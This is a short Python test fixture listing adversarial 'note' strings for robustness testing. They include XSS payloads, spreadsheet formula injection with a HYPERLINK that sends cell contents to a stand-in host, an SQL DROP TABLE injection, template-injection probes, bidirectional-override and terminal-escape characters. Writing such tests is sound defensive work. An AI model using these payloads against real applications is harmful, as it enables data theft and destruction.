"""Notes that someone might write to do harm, or by mistake."""

HOSTILE = (
    "<script>alert(1)</script><img src=x onerror=alert(1)>&amp;",
    "=1+1",
    "@SUM(A1:A9)",
    '=HYPERLINK("http://example.invalid/?"&A1,"look")',
    "\uff1d1+1",
    "\u202eright to left\u202c \u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627",
    "a\0b",
    "\x1b[2J\x07bell",
    'two "quotes", a comma,\r\nand another line\n=1+1',
    "]]>--><!-- {{7*7}} ${7*7} %s %n '; DROP TABLE note; --",
    "\ud7ff\ue000\ufffd\U0001f600",
    "x" * 1_000_000,
)
IDS = ("html", "sum", "at", "link", "wide", "right-to-left", "nul", "escape", "lines", "code", "letters", "megabyte")
